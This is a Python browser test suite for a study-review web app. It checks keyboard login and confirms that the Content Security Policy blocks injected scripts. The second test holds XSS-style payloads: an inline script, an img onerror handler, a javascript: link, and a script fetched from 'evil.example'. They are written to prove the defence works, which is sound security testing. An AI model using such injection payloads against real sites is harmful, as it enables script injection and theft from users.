"""The entrance in a real browser: by keyboard alone, in light and dark, on a screen, a tablet and a phone."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest

from tests.support.chromium import find_chromium, open_page
from tests.support.means import missing
from tests.support.web_folder import invitations, review_folder, serving
from tests.support.web_keys import write
from tests.support.web_page import faults, press
from tests.support.web_site import PASSWORD


@pytest.fixture(scope="module")
def chromium() -> str:
    program = find_chromium()
    if program is None:
        missing("no Chromium here (Debian: apt-get install chromium)")
    return str(program)


def test_from_the_invitation_to_the_first_item_by_keyboard(tmp_path: Path, chromium: str) -> None:
    folder = review_folder(tmp_path / "review")
    links = invitations(folder)

    async def work(address: str) -> None:
        async with open_page(chromium) as page:
            for path in ("/login", "/nothing", links["anna"]):
                await page.open(address + path)
                assert await faults(page) == {}, path
            await write(page, PASSWORD)
            await press(page, "Tab")
            await write(page, PASSWORD)
            await press(page, "Enter", loads=True)
            assert await page.evaluate("document.querySelector('h1').textContent") == "Your studies"
            assert await faults(page) == {}
            assert await page.evaluate("document.activeElement.getAttribute('href')") == "/study/questions/next"
            assert await page.evaluate("document.cookie") == "", "no script can read the session"
            assert await page.evaluate("typeof htmx") == "object"
            assert [one for one in page.requests if not one.startswith((address, "data:"))] == []
            assert [one for one in page.complaints if "404" not in one] == []

    with serving(folder) as (_, address):
        asyncio.run(work(address))


def test_what_is_inline_does_not_run(tmp_path: Path, chromium: str) -> None:
    """The policy holds in the browser: a script that got into a page, by whatever fault, does nothing."""
    folder = review_folder(tmp_path / "review")
    invitations(folder)
    attack = """
      const made = document.createElement('script'); made.textContent = 'window.harm = 1'; document.body.append(made);
      document.body.insertAdjacentHTML('beforeend', '<img src=/none.png onerror="window.harm = 2">');
      document.body.insertAdjacentHTML('beforeend', '<a id=link href="javascript:window.harm = 3">x</a>');
      document.getElementById('link').click();
      const far = document.createElement('script'); far.src = 'https://evil.example/x.js'; document.body.append(far);
      new Promise((done) => { far.onerror = () => done(window.harm ?? 0); far.onload = () => done(4); })
    """

    async def work(address: str) -> None:
        async with open_page(chromium) as page:
            await page.open(address + "/login")
            assert await page.evaluate(attack) == 0
            assert await page.evaluate("new Promise((r) => requestAnimationFrame(() => r(window.harm ?? 0)))") == 0
            assert sum("Content Security Policy" in one for one in page.complaints) >= 3

    with serving(folder) as (_, address):
        asyncio.run(work(address))
